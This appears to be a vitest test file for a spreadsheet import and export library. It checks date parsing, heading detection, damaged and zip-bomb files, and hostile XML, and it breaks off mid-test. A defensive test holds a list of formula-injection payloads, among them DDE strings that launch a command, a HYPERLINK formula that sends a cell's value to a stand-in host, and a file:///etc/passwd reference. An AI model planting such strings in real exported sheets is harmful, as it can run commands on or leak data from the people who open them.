import { mkdtemp, open, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inflateRawSync } from 'node:zlib';
import { workbookErrors } from '@anyan/contract';
import type { Label } from '@anyan/contract/core/label';
import ExcelJS from 'exceljs';
import { readXlsx } from 'hucre';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dateText, dayNumber, lookOf, numberText, serialText, titleKey, trimmed } from './cells.ts';
import {
  HeadingOpen,
  type ReadColumn,
  type ReadOptions,
  type ReadRow,
  readWorkbook,
  WorkbookFault,
  type WriteCell,
  type WriteColumn,
  writeTemplate,
  writeWorkbook,
} from './index.ts';
import { sheetNames } from './sheet-writer.ts';
import { decodeEntities, XmlScanner } from './xml.ts';
import { ZipWriter } from './zip-writer.ts';

let folder = '';
let files = 0;
const fresh = () => {
  files += 1;
  return join(folder, `${files}.xlsx`);
};

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'excel-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const columns: ReadColumn[] = [
  { key: 'code', title: ['工号', 'Staff number'], required: true },
  { key: 'name', title: ['姓名', 'Name'], required: true },
  { key: 'joined', title: ['入职日期', 'Joined on'], kind: 'date' },
  { key: 'remark', title: ['备注', 'Remark'] },
];

const readAll = async (path: string, options: Partial<ReadOptions> = {}): Promise<ReadRow[]> => {
  const rows: ReadRow[] = [];
  for await (const batch of readWorkbook(path, { columns, ...options })) rows.push(...batch);
  return rows;
};

const faultOf = async (path: string, options: Partial<ReadOptions> = {}): Promise<WorkbookFault> => {
  try {
    await readAll(path, options);
  } catch (error) {
    if (error instanceof WorkbookFault) return error;
    throw error;
  }
  throw new Error('no fault');
};

const codeOf = async (path: string, options: Partial<ReadOptions> = {}) =>
  (await faultOf(path, options)).code;

/** A file made by exceljs. */
const made = async (fill: (sheet: ExcelJS.Worksheet, book: ExcelJS.Workbook) => void): Promise<string> => {
  const book = new ExcelJS.Workbook();
  fill(book.addWorksheet('数据'), book);
  const path = fresh();
  await book.xlsx.writeFile(path);
  return path;
};

const heading = ['工号', '姓名', '入职日期', '备注'];

/** A file whose sheet, strings or other parts are given as XML. */
const packed = async (parts: Record<string, string>): Promise<string> => {
  const path = fresh();
  const file = await open(path, 'w');
  const zip = new ZipWriter(file);
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const all: Record<string, string> = {
    '[Content_Types].xml': '<Types/>',
    '_rels/.rels': `<Relationships><Relationship Id="a" Type="${type}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml':
      '<workbook xmlns:r="r"><sheets><sheet name="a" sheetId="1" r:id="s1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': `<Relationships><Relationship Id="s1" Type="${type}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="s2" Type="${type}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': '<worksheet><sheetData/></worksheet>',
    ...parts,
  };
  for (const [name, text] of Object.entries(all)) {
    await zip.add(name, text.match(/[\s\S]{1,65536}/g) ?? []);
  }
  await zip.finish();
  await file.close();
  return path;
};

const inline = (reference: string, text: string) =>
  `<c r="${reference}" t="inlineStr"><is><t>${text}</t></is></c>`;
const sheetOf = (rows: string, after = '') =>
  `<worksheet><sheetData><row r="1">${inline('A1', '工号')}${inline('B1', '姓名')}</row>${rows}</sheetData>${after}</worksheet>`;

async function* batchesOf(...batches: (readonly (readonly WriteCell[])[])[]) {
  yield* batches;
}

const written = async (
  writeColumns: readonly WriteColumn[],
  ...batches: (readonly (readonly WriteCell[])[])[]
): Promise<string> => {
  const path = fresh();
  await writeWorkbook(path, { title: '导出', columns: writeColumns, rows: batchesOf(...batches) });
  return path;
};

/** The parts of a zip file by the directory, unpacked by other code than ours. */
const partsOf = async (path: string): Promise<Map<string, string>> => {
  const bytes = await readFile(path);
  const parts = new Map<string, string>();
  let at = bytes.readUInt32LE(bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1') + 16);
  while (bytes.readUInt32LE(at) === 0x02014b50) {
    const size = bytes.readUInt32LE(at + 20);
    const nameLength = bytes.readUInt16LE(at + 28);
    const offset = bytes.readUInt32LE(at + 42);
    const start = offset + 30 + bytes.readUInt16LE(offset + 26) + bytes.readUInt16LE(offset + 28);
    parts.set(
      bytes.toString('utf8', at + 46, at + 46 + nameLength),
      inflateRawSync(bytes.subarray(start, start + size)).toString(),
    );
    at += 46 + nameLength + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return parts;
};

const openedBy = async (path: string): Promise<ExcelJS.Workbook> => {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  return book;
};

describe('cells', () => {
  it('writes numbers without exponent or noise', () => {
    const cases: [number, string][] = [
      [20230001, '20230001'],
      [0.1 + 0.2, '0.3'],
      [1e-7, '0.0000001'],
      [1e21, '1000000000000000000000'],
      [-0, '0'],
      [-2.5, '-2.5'],
      [5e-324, '0'],
    ];
    for (const [value, text] of cases) expect(numberText(value)).toBe(text);
  });

  it('reads dates as people type them', () => {
    for (const text of [
      '2026-01-05',
      '2026-1-5',
      '2026/1/5',
      '2026.1.5',
      '2026年1月5日',
      '2026 年 1 月 5 日',
      '20260105',
      '２０２６／１／５',
      '2026-01-05 00:00:00',
      '2026-01-05T08:30',
    ]) {
      expect(dateText(text), text).toEqual({ date: '2026-01-05' });
    }
    for (const text of ['2026-02-29', '2026/13/1', '20260230', '2026年4月31日', '0001-01-01']) {
      expect(dateText(text), text).toEqual({ problem: 'noSuchDate' });
    }
    for (const text of [
      '5/1/2026',
      '26-1-5',
      '2026-1',
      '46027',
      '明天',
      '2026/1-5',
      '2026年1-5',
      '2026-1-5日',
      'x'.repeat(9_999),
    ]) {
      expect(dateText(text), text.slice(0, 20)).toEqual({ problem: 'notADate' });
      expect(
        ['45352', '45352.5', '9999', '80001', '453520', '4535a'].map((text) => dayNumber(text, false)),
      ).toEqual([...['45352 = 2024-03-01', '45352.5 = 2024-03-01 12:00', null, null, null, null]]);
    }
  });

  it('turns serial numbers into dates', () => {
    expect(serialText(46027, false)).toBe('2026-01-05');
    expect(serialText(1, false)).toBe('1900-01-01');
    expect(serialText(59, false)).toBe('1900-02-28');
    expect(serialText(60, false)).toBeNull();
    expect(serialText(61, false)).toBe('1900-03-01');
    expect(serialText(44565, true)).toBe('2026-01-05');
    expect(serialText(46027.354166666664, false)).toBe('2026-01-05 08:30');
    expect(serialText(0.5, false)).toBe('12:00');
    expect(serialText(-1, false)).toBeNull();
    expect(serialText(9e9, false)).toBeNull();
  });

  it('knows date formats, also the Chinese ones', () => {
    for (const code of [
      'yyyy-mm-dd',
      'yyyy"年"m"月"d"日";@',
      '[$-804]yyyy/m/d',
      'm/d/yy h:mm',
      '[h]:mm',
      'h:mm AM/PM',
    ]) {
      expect(lookOf(176, code), code).toBe('date');
    }
    for (const code of [
      'General',
      '@',
      '0.00',
      '#,##0',
      '"day"0',
      '[Red]0',
      '[DBNum2][$-804]General',
      'G/通用格式"元"',
    ]) {
      expect(lookOf(176, code), code).toBe('plain');
    }
    for (const id of [14, 22, 31, 57, 58]) expect(lookOf(id, undefined)).toBe('date');
    expect(lookOf(176, '00000')).toEqual({ zeros: 5 });
  });

  it('trims every kind of space and compares titles', () => {
    expect(trimmed('\u3000\u00a0\u200b 张 三\t\ufeff')).toBe('张 三');
    expect(trimmed('a\r\nb\rc')).toBe('a\nb\nc');
    expect(titleKey(' ＊姓名（中文） * ')).toBe('姓名(中文)');
    expect(titleKey('Staff\nNumber*')).toBe('staffnumber');
    expect(titleKey('姓　 名（必填）')).toBe('姓名');
  });
});

describe('xml', () => {
  const scanned = (text: string, size: number) => {
    let out = '';
    const scanner = new XmlScanner({
      open: (name) => {
        out += `<${name}>`;
      },
      close: (name) => {
        out += `</${name}>`;
      },
      text: (piece) => {
        out += piece;
      },
    });
    for (let at = 0; at < text.length; at += size) scanner.write(text.slice(at, at + size));
    scanner.end();
    return out;
  };

  it('does not depend on where the pieces are cut', () => {
    const text =
      '<?xml version="1.0"?><!-- < --><x:a b="1>2"><c/>a&amp;b&#x4e2d;&#20013;<![CDATA[<&]]></x:a>\n';
    for (let size = 1; size <= text.length; size += 1) {
      expect(scanned(text, size)).toBe('<a><c></c>a&b中中<&</a>\n');
    }
  });

  it('refuses what no workbook has', () => {
    for (const text of [
      '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
      '<a>&b;</a>',
      '<a>',
      '<a></a></a>',
      '<a/><b/>',
      '',
      '<a',
      '<a b="',
      '<a>&#x110000;</a>',
    ]) {
      expect(() => scanned(text, 3), text).toThrow(WorkbookFault);
    }
    expect(() => scanned(`<a ${' '.repeat(2_000_000)}>`, 65_536)).toThrow(WorkbookFault);
    expect(decodeEntities('&lt;&gt;&quot;&apos;')).toBe('<>"\'');
  });
});

describe('reading', () => {
  it('reads what a person sees, in the order of the columns', async () => {
    const path = await made((sheet) => {
      sheet.addRow([]);
      sheet.addRow(['备注', ' Name * ', '入职日期', '工号*']);
      sheet.addRow(['\u3000好 ', '张三', new Date(Date.UTC(2026, 0, 5)), 20230001]);
      sheet.addRow([]);
      sheet.addRow([true, '李四', '2026年1月5日', '00123']);
      sheet.addRow([
        { richText: [{ text: '富' }, { text: '文本', font: { bold: true } }] },
        '王五',
        20260105,
        123,
      ]);
      sheet.getCell('D6').numFmt = '00000';
      sheet.addRow([{ text: '链接', hyperlink: 'https://example.com' }, '赵六', null, 0.1 + 0.2]);
      sheet.addRow(['  ', '\u3000']);
    });
    expect(await readAll(path)).toEqual([
      { row: 3, cells: ['20230001', '张三', '2026-01-05', '好'], errors: [] },
      { row: 5, cells: ['00123', '李四', '2026-01-05', '是'], errors: [] },
      { row: 6, cells: ['00123', '王五', '2026-01-05', '富文本'], errors: [] },
      { row: 7, cells: ['0.3', '赵六', null, '链接'], errors: [] },
    ]);
  });

  it('names row, column and reason of every bad cell', async () => {
    const path = await made((sheet) => {
      sheet.addRow([...heading, '']);
      sheet.addRow(['1', { formula: 'A2&"x"', result: '1x' }, '2026-02-30', '']);
      sheet.addRow(['2', { formula: 'A3' }, '5 Jan', { error: '#N/A' }]);
      sheet.addRow([Number('110101199001011234'), 'x', 46027, '长'.repeat(2_001)]);
      sheet.addRow(['4', '#REF!', null, null, null, '旁注']);
    });
    const errors = (await readAll(path)).flatMap((row) => row.errors);
    expect(errors.map(({ row, column, key, message }) => [row, column, key, message])).toEqual([
      [2, '姓名', 'name', '不接受公式，请粘贴为数值'],
      [2, '入职日期', 'joined', '日期不存在'],
      [3, '姓名', 'name', '公式没有结果，请粘贴为数值'],
      [3, '入职日期', 'joined', '日期请写成 2026-01-05 的形式'],
      [3, '备注', 'remark', '单元格是错误值 #N/A'],
      [4, '工号', 'code', '数字超过 15 位，末尾已失真，请先把单元格设为文本再填写'],
      [
        ...[4, '入职日期', 'joined'],
        '46027 = 2026-01-05，是 Excel 的日期序号，请把单元格设为日期格式，或写成 2026-01-05 的形式',
      ],
      [4, '备注', 'remark', '内容超过 2000 个字'],
      [5, '姓名', 'name', '单元格是错误值 #REF!'],
      [5, 'F', null, '该列没有表头，请清除内容'],
    ]);
    const english = await readAll(path, { locale: 'en-US' });
    expect(english[0]?.errors[0]).toMatchObject({
      column: 'Name',
      message: 'Formulas are not accepted, please paste the values',
    });
  });

  it('reports cells hidden under merged ones', async () => {
    const path = await made((sheet) => {
      sheet.addRow(heading);
      for (const code of ['1', '2', '3']) sheet.addRow([code, 'x', null, code]);
      sheet.mergeCells('B2:B3');
      sheet.mergeCells('C4:D4');
    });
    const errors = (await readAll(path)).flatMap((row) => row.errors);
    expect(errors.map(({ row, key }) => [row, key])).toEqual([
      [3, 'name'],
      [4, 'remark'],
    ]);
  });

  it('names the faults of the heading', async () => {
    const faultsOf = async (titles: string[], merge?: string) => {
      const fault = await faultOf(
        await made((sheet) => {
          sheet.addRow(titles);
          sheet.addRow(['1', '2', '3', '4', '5']);
          if (merge !== undefined) sheet.mergeCells(merge);
        }),
      );
      return [fault.error, fault.values.columns];
    };
    expect(await faultsOf([...heading.slice(0, 3), '备注'], 'C1:D1')).toEqual([
      'WORKBOOK_HEADER_MERGED',
      '入职日期',
    ]);
    expect(await faultsOf(['工号', '姓名'], 'A1:A2')).toEqual(['WORKBOOK_HEADER_MERGED', '工号']);
  });

  it('finds the heading below titles, and knows its columns by name whatever their blanks and order', async () => {
    const path = await made((sheet) => {
      sheet.addRow(['2026 级新生名单']);
      sheet.mergeCells('A1:D1');
      sheet.addRow(['制表：教务处', '', '', '2026-09-01']);
      sheet.addRow([' 姓　名 ', '工号＊', '备 注', '入职\n日期']);
      sheet.addRow(['张三', '1', '好', '２０２６／９／１']);
    });
    expect(await readAll(path)).toEqual([
      { row: 4, cells: ['1', '张三', '2026-09-01', '好'], errors: [], widened: 1 },
    ]);
  });

  const openOf = async (rows: (string | number | null)[][], options: Partial<ReadOptions> = {}) => {
    const path = await made((sheet) => rows.forEach((row) => void sheet.addRow(row)));
    try {
      return { rows: await readAll(path, options) };
    } catch (error) {
      if (error instanceof HeadingOpen) return error.heading;
      throw error;
    }
  };

  it('asks where a title is unknown, a column stands twice or a needed one is missing', async () => {
    const keysOf = async (titles: string[]) => {
      const found = await openOf([['名册'], titles, ['1', 'x', '2', '3', '4']]);
      return 'columns' in found ? [found.row, found.columns.map(({ key }) => key)] : 'read';
    };
    expect(await keysOf([...heading, '电话'])).toEqual([2, ['code', 'name', 'joined', 'remark', null]]);
    expect(await keysOf([...heading, 'Name'])).toEqual([2, ['code', 'name', 'joined', 'remark', null]]);
    // What a title may be is offered, each column once.
    expect(await keysOf(['教工号', '学生姓名', '入职日期', '导师姓名'])).toEqual([
      2,
      ['code', 'name', 'joined', null],
    ]);
    const open = await openOf([['名册'], ['编号', '姓名'], ['1', '张三'], [], ['2', '李四']]);
    expect(open).toEqual({
      row: 2,
      columns: [
        { column: 0, letters: 'A', title: '编号', samples: ['1', '2'], key: null },
        { column: 1, letters: 'B', title: '姓名', samples: ['张三', '李四'], key: 'name' },
      ],
    });
  });

  it('gives up looking for a heading after twenty rows', async () => {
    const open = await openOf(Array.from({ length: 60 }, (_none, no) => [no, '王', '化学']));
    expect(open).toMatchObject({ row: 1, columns: [{ key: null }, { key: null }, { key: null }] });
  });

  it('reads columns as their owner has named them, now or in an earlier file', async () => {
    const rows = [['名册'], ['编号', '姓名', '电话'], ['1', '张三', '15400000000']];
    const cells = [{ row: 3, cells: ['1', '张三', null, null], errors: [] }];
    const columns = [
      { column: 0, key: 'code' },
      { column: 1, key: 'name' },
    ];
    expect(await openOf(rows, { places: { row: 2, columns } })).toEqual({ rows: cells });
    const known = { 编号: 'code', 电话: null };
    expect(await openOf(rows, { known })).toEqual({ rows: cells });
    expect(await openOf(rows, { known, places: 'ask' })).toMatchObject({ row: 2 });
    // A column by its own name comes before one that was called so once.
    expect(
      await openOf(
        [
          ['工号', '姓名', '编号'],
          ['1', 'x', '2'],
        ],
        { known },
      ),
    ).toMatchObject({ row: 1 });
  });

  it('passes over titles that may be ignored and takes files without optional columns', async () => {
    const path = await made((sheet) => {
      sheet.addRow(['工号', '失败原因', '姓名']);
      sheet.addRow(['1', '重复', 'x']);
    });
    const ignored: Label[] = [['失败原因', 'Reason']];
    expect(await readAll(path, { ignored })).toEqual([{ row: 2, cells: ['1', 'x', null, null], errors: [] }]);
  });

  it('reads the first visible sheet and knows the dates from 1904', async () => {
    const path = await made((sheet, book) => {
      sheet.addRow(['nothing']);
      sheet.state = 'hidden';
      const second = book.addWorksheet('人员');
      second.addRow(heading);
      second.addRow(['1', 'x', new Date(Date.UTC(2026, 0, 5)), '']);
      book.properties.date1904 = true;
    });
    expect((await readAll(path))[0]?.cells).toEqual(['1', 'x', '2026-01-05', null]);
  });

  it('finds no data in empty sheets', async () => {
    expect(await codeOf(await made(() => undefined))).toBe('EMPTY');
    expect(await codeOf(await made((sheet) => sheet.addRow(heading)))).toBe('EMPTY');
  });

  it('takes 50,000 rows and refuses 50,001', async () => {
    const rows = (count: number) =>
      written(
        [{ title: '工号' }, { title: '姓名' }],
        Array.from({ length: count }, (_none, row) => [row, 'x']),
      );
    let read = 0;
    for await (const batch of readWorkbook(await rows(50_000), { columns })) {
      expect(batch.length).toBeLessThanOrEqual(1_000);
      read += batch.length;
    }
    expect(read).toBe(50_000);
    const fault = await faultOf(await rows(50_001));
    expect([fault.code, fault.values]).toEqual(['TOO_MANY_ROWS', { max: 50_000 }]);
  });

  it('does not count empty rows, however many are formatted', async () => {
    const empty = Array.from(
      { length: 3_000 },
      (_none, row) => `<row r="${row + 3}"><c r="A${row + 3}" s="0"/></row>`,
    );
    const path = await packed({
      'xl/worksheets/sheet1.xml': sheetOf(
        `<row r="2">${inline('A2', '1')}${inline('B2', 'x')}</row>${empty.join('')}`,
      ),
    });
    expect(await readAll(path, { maxRows: 10 })).toHaveLength(1);
  });

  it('waits for a slow reader and stops when it is told to', async () => {
    const path = await written(
      [{ title: '工号' }, { title: '姓名' }],
      Array.from({ length: 20_000 }, () => ['1', 'x']),
    );
    for await (const batch of readWorkbook(path, { columns })) {
      expect(batch).toHaveLength(1_000);
      break;
    }
    const abort = new AbortController();
    const seen: number[] = [];
    const reading = (async () => {
      for await (const batch of readWorkbook(path, { columns, signal: abort.signal })) {
        seen.push(batch.length);
        abort.abort(new Error('enough'));
      }
    })();
    await expect(reading).rejects.toThrow('enough');
    expect(seen).toEqual([1_000]);
  });
});

describe('files that are no workbook', () => {
  const of = async (content: Buffer | string) => {
    const path = fresh();
    await writeFile(path, content);
    return await codeOf(path);
  };

  it('says what they are', async () => {
    const ole = Buffer.alloc(4_096);
    ole.write('d0cf11e0a1b11ae1', 'hex');
    expect(await of(ole)).toBe('OLD_FORMAT');
    ole.write('EncryptedPackage', 2_000, 'utf16le');
    expect(await of(ole)).toBe('ENCRYPTED');
    expect(await of('工号,姓名\n1,张三\n')).toBe('TEXT_FILE');
    expect(await of(Buffer.from('\ufeff工号\t姓名\n', 'utf16le'))).toBe('TEXT_FILE');
    expect(await of(Buffer.from('b9a4bac52cd0d5c3fb0a312ce5a50a', 'hex'))).toBe('TEXT_FILE');
    expect(await of('<html><table><tr><td>工号</td></tr></table></html>')).toBe('TEXT_FILE');
    expect(await of('%PDF-1.7\n1 0 obj\n')).toBe('NOT_A_WORKBOOK');
    expect(await of(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'))).toBe('NOT_A_WORKBOOK');
    expect(await of('')).toBe('EMPTY');
    expect(await of('P')).toBe('TEXT_FILE');
    expect(await of(Buffer.from('PK\x03\x04rest'))).toBe('DAMAGED');
    expect(await of(Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(18)]))).toBe('NOT_A_WORKBOOK');
  });

  it('refuses other packages', async () => {
    expect(await codeOf(await packed({ 'xl/workbook.xml': '<document/>' }))).toBe('NOT_A_WORKBOOK');
    expect(await codeOf(await packed({ '_rels/.rels': '<Relationships/>' }))).toBe('NOT_A_WORKBOOK');
    expect(await codeOf(await packed({ 'xl/workbook.xml': '<workbook><sheets/></workbook>' }))).toBe('EMPTY');
    const missing = join(folder, 'none.xlsx');
    await expect(readAll(missing)).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('has a sentence for every fault', () => {
    for (const [status, zh, en] of Object.values(workbookErrors)) {
      expect(status).toBe(400);
      expect(zh).toMatch(/[\u4e00-\u9fff]/);
      expect(en).toMatch(/^[\x20-\x7e]+$/);
    }
  });
});

describe('damaged and hostile files', () => {
  it('finds truncated files and wrong checksums', async () => {
    const good = await readFile(
      await written(
        [{ title: '工号' }, { title: '姓名' }],
        Array.from({ length: 200 }, (_none, row) => [row, `人${row}`]),
      ),
    );
    const path = fresh();
    await writeFile(path, good.subarray(0, good.length - 40));
    expect(await codeOf(path)).toBe('DAMAGED');
    await writeFile(path, good);
    const expected = JSON.stringify(await readAll(path));
    // Flipped bytes are either found or stand where nothing depends on them, such as a time stamp.
    let found = 0;
    for (let at = 7; at < good.length; at += Math.ceil(good.length / 25)) {
      const flipped = Buffer.from(good);
      flipped[at] = (flipped[at] ?? 0) ^ 0x10;
      await writeFile(path, flipped);
      try {
        expect(JSON.stringify(await readAll(path))).toBe(expected);
      } catch (error) {
        expect(error).toBeInstanceOf(WorkbookFault);
        found += 1;
      }
    }
    expect(found).toBeGreaterThan(12);
  });

  it('refuses bombs by the directory alone', async () => {
    const ratio = await packed({ 'xl/media/a.xml': ' '.repeat(20_000_000) });
    expect(await codeOf(ratio)).toBe('TOO_LARGE');
    const entries = Object.fromEntries(Array.from({ length: 1_000 }, (_none, index) => [`a${index}`, 'x']));
    expect(await codeOf(await packed(entries))).toBe('TOO_LARGE');

    const small = await readFile(await packed({}));
    const directory = small.readUInt32LE(small.length - 6);
    const declared = (size: number) => {
      const bytes = Buffer.from(small);
      bytes.writeUInt32LE(size, directory + 24);
      return bytes;
    };
    const path = fresh();
    await writeFile(path, declared(3_000_000_000));
    expect(await codeOf(path)).toBe('TOO_LARGE');
  });

  it('stops a part that is longer than declared', async () => {
    const bytes = await readFile(
      await packed({ 'xl/worksheets/sheet1.xml': sheetOf(' '.repeat(5_000_000)) }),
    );
    const at = bytes.lastIndexOf('xl/worksheets/sheet1.xml', undefined, 'latin1') - 46;
    bytes.writeUInt32LE(1_000, at + 24);
    const path = fresh();
    await writeFile(path, bytes);
    expect(await codeOf(path)).toBe('DAMAGED');
  });

  it('survives hostile XML', async () => {
    const sheet = (xml: string) => packed({ 'xl/worksheets/sheet1.xml': xml });
    const entity = `<!DOCTYPE a [<!ENTITY a "${'x'.repeat(1_000)}">]>`;
    expect(await codeOf(await sheet(entity + sheetOf('<row><c><v>&a;</v></c></row>')))).toBe('DAMAGED');
    expect(await codeOf(await sheet(`<worksheet ${'a'.repeat(3_000_000)}`))).toBe('DAMAGED');
    expect(await codeOf(await sheet(sheetOf(`<row><c ${'a'.repeat(900_000)}/></row>`)))).toBe('EMPTY');
    expect(await codeOf(await sheet(sheetOf('<row r="9"/><row r="2"/>')))).toBe('DAMAGED');
    expect(await codeOf(await sheet(sheetOf(`<row>${inline('B2', 'x')}${inline('A2', 'x')}</row>`)))).toBe(
      'DAMAGED',
    );
    expect(await codeOf(await sheet(sheetOf(`<row>${inline('XFE2', 'x')}</row>`)))).toBe('DAMAGED');
    expect(await codeOf(await sheet(sheetOf('<row><c t="s"><v>7</v></c></row>')))).toBe('DAMAGED');
    expect(await codeOf(await sheet(sheetOf('<row><c><v>many</v></c></row>')))).toBe('DAMAGED');
    expect(
      await codeOf(await sheet(sheetOf('', '<mergeCells><mergeCell ref="A1:ZZZZ9"/></mergeCells>'))),
    ).toBe('DAMAGED');
    const wide = await sheet(sheetOf(`<row>${inline('A2', '1')}${inline('XFD2', 'x')}</row>`));
    expect((await readAll(wide))[0]?.errors).toMatchObject([{ column: 'XFD' }]);
  });

  it('holds its limits of time and memory', async () => {
    const sheet = sheetOf('<row>'.concat(inline('A2', '1'), '</row>'));
    const path = await packed({ 'xl/worksheets/sheet1.xml': sheet });
    expect(await codeOf(path, { limits: { timeMs: 1 } })).toBe('TOO_LARGE');
    const strings = await packed({
      'xl/worksheets/sheet1.xml': sheet,
      'xl/sharedStrings.xml': `<sst>${Array.from({ length: 600_000 }, (_none, index) => `<si><t>${index * 7_919}一</t></si>`).join('')}</sst>`,
    });
    expect(await codeOf(strings, { limits: { heapMb: 16 } })).toBe('TOO_LARGE');
    expect(await readAll(strings)).toHaveLength(1);
    const many = await packed({ 'xl/sharedStrings.xml': `<sst>${'<si/>'.repeat(1_000_001)}</sst>` });
    expect(await codeOf(many)).toBe('TOO_LARGE');
  });
});

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"点我")',
  '=IMPORTXML("http://x.example","//a")',
  '=WEBSERVICE("http://x.example")',
  '==1',
  '= 1',
  '=SUM(A1:A9)',
  '=DDE("cmd";"/C calc";"x")',
  "='file:///etc/passwd'#$a.A1",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(1)',
  '++1',
  '+8613800000000',
  '-1+1',
  "-cmd|' /C calc'!A0",
  '--1',
  '-5',
  '-A1',
  '@SUM(1+1)',
  '@A1',
  '@@',
  '@张三',
  '\t=1+1',
  '\t+1',
  '\r=1+1',
  '\r\n=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '|=1',
  '%0A=1+1',
  '<f>1+1</f>',
  '</t></is><f>1+1</f>',
  '_x003D_1+1',
  '_x000D_=1',
  '&#61;1+1',
  '{=1+1}',
  '$=1',
];

describe('writing', () => {
  it('keeps formulas as text', async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40);
    const path = await written(
      [
        { title: '=标题' },
        { title: 'b', kind: 'number' },
        { title: 'c', kind: 'date' },
        { title: 'd', kind: 'money' },
      ],
      payloads.map((text) => [text, text, text, text]),
    );
    const xml = (await partsOf(path)).get('xl/worksheets/sheet1.xml') ?? '';
    expect(xml).not.toMatch(/<(?:\w+:)?f[\s>/]/);
    expect((await partsOf(path)).get('xl/styles.xml')).not.toContain('quotePrefix');
    const sheet = (await openedBy(path)).worksheets[0];
    const byHucre = await readXlsx(await readFile(path));
    for (const [index, text] of payloads.entries()) {
      for (let column = 1; column <= 4; column += 1) {
        const cell = sheet?.getCell(index + 2, column);
        if (column !== 1 && text === '-5') {
          expect(cell?.value).toBe(column === 3 ? '-5' : -5);
          continue;
        }
        // exceljs does not undo the escape of `_x003D_` in inline strings; Excel, WPS and hucre do.
        const escaped = text.replace(/_(?=x[0-9A-F]{4}_)/, '_x005F_');
        expect([cell?.type, cell?.value], text).toEqual([ExcelJS.ValueType.String, escaped]);
        expect(byHucre.sheets[0]?.rows[index + 1]?.[column - 1], text).toBe(text);
      }
    }
  });

  it('gives numbers, dates and amounts their types', async () => {
    const path = fresh();
    const result = await writeWorkbook(path, {
      title: '化学品[2026]/1',
      columns: [
        { title: '名称' },
        { title: '数量', kind: 'number' },
        { title: '日期', kind: 'date' },
        { title: '金额', kind: 'money', width: 20 },
      ],
      rows: batchesOf(
        [['乙醇（无水）', 12.5, '2026-01-05', '1234.50']],
        [
          [20230001, null, '2026-02-30', 'x'],
          ['', Number.NaN, '2026-01-05 08:30', '12345678901234567.89'],
        ],
        [],
      ),
      note: '第一行\n第二行',
    });
    expect(result.rows).toBe(3);
    expect(result.bytes).toBe((await readFile(path)).length);
    const book = await openedBy(path);
    expect(book.worksheets.map(({ name }) => name)).toEqual(['化学品 2026  1', '说明']);
    const sheet = book.worksheets[0];
    const valuesOf = (row: number) => [1, 2, 3, 4].map((column) => sheet?.getCell(row, column).value);
    expect(valuesOf(2)).toEqual(['乙醇（无水）', 12.5, new Date(Date.UTC(2026, 0, 5)), 1234.5]);
    expect(valuesOf(3)).toEqual(['20230001', null, '2026-02-30', 'x']);
    expect(valuesOf(4)).toEqual([null, null, '2026-01-05 08:30', '12345678901234567.89']);
    expect(sheet?.getCell('D2').numFmt).toBe('#,##0.00');
    expect(sheet?.getCell('C2').numFmt).toMatch(/yyyy\\?-mm\\?-dd/);
    expect(sheet?.getCell('A1').font?.bold).toBe(true);
    expect(sheet?.getCell('A2').font?.bold).toBeFalsy();
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet?.autoFilter).toBe('A1:D4');
    expect(sheet?.getColumn(1).width).toBe(14);
    expect(sheet?.getColumn(4).width).toBe(20);
    expect(book.worksheets[1]?.getCell('A2').value).toBe('第二行');
  });

  it('leaves out what XML cannot hold and cuts what a cell cannot', async () => {
    const path = await written(
      [{ title: 'a\u0000b' }],
      [
        ['\u0000\u0008x\u000b\u001fy\ufffe\uffff'],
        ['\ud800lone'],
        ['😀&<>"\'\n第二行 '],
        ['长'.repeat(40_000)],
      ],
    );
    const sheet = (await openedBy(path)).worksheets[0];
    expect(sheet?.getCell('A1').value).toBe('ab');
    expect(sheet?.getCell('A2').value).toBe('xy');
    expect(sheet?.getCell('A3').value).toBe('\ufffdlone');
    expect(sheet?.getCell('A4').value).toBe('😀&<>"\'\n第二行 ');
    expect(String(sheet?.getCell('A5').value)).toHaveLength(32_767);
  });

  it('writes several sheets and the import reads back what was exported', async () => {
    const path = fresh();
    const titles = heading.map((title) => ({ title }));
    const rows = [['001', '=张三', '2026-01-05', ' 空格 ']];
    await writeWorkbook(path, {
      sheets: [
        { title: '人员', columns: titles, rows: batchesOf(rows) },
        { title: '人员', columns: titles, rows: batchesOf() },
      ],
    });
    expect((await openedBy(path)).worksheets.map(({ name }) => name)).toEqual(['人员', '人员 (2)']);
    expect(await readAll(path)).toEqual([
      { row: 2, cells: ['001', '=张三', '2026-01-05', '空格'], errors: [] },
    ]);
    expect(sheetNames(["'a'", '', 'x'.repeat(40), '[]'])).toEqual([
      'a',
      'Sheet',
      'x'.repeat(31),
      'Sheet (2)',
    ]);
  });

  it('asks for rows no faster than it writes them, and leaves nothing behind on a fault', async () => {
    const path = fresh();
    let asked = 0;
    async function* failing() {
      for (; asked < 50; asked += 1) yield Array.from({ length: 1_000 }, () => ['x']);
      throw new Error('the database is gone');
    }
    await expect(
      writeWorkbook(path, { title: 'a', columns: [{ title: 'a' }], rows: failing() }),
    ).rejects.toThrow('the database is gone');
    const abort = new AbortController();
    async function* endless() {
      for (;;) {
        yield [['x']];
        abort.abort(new Error('enough'));
      }
    }
    await expect(
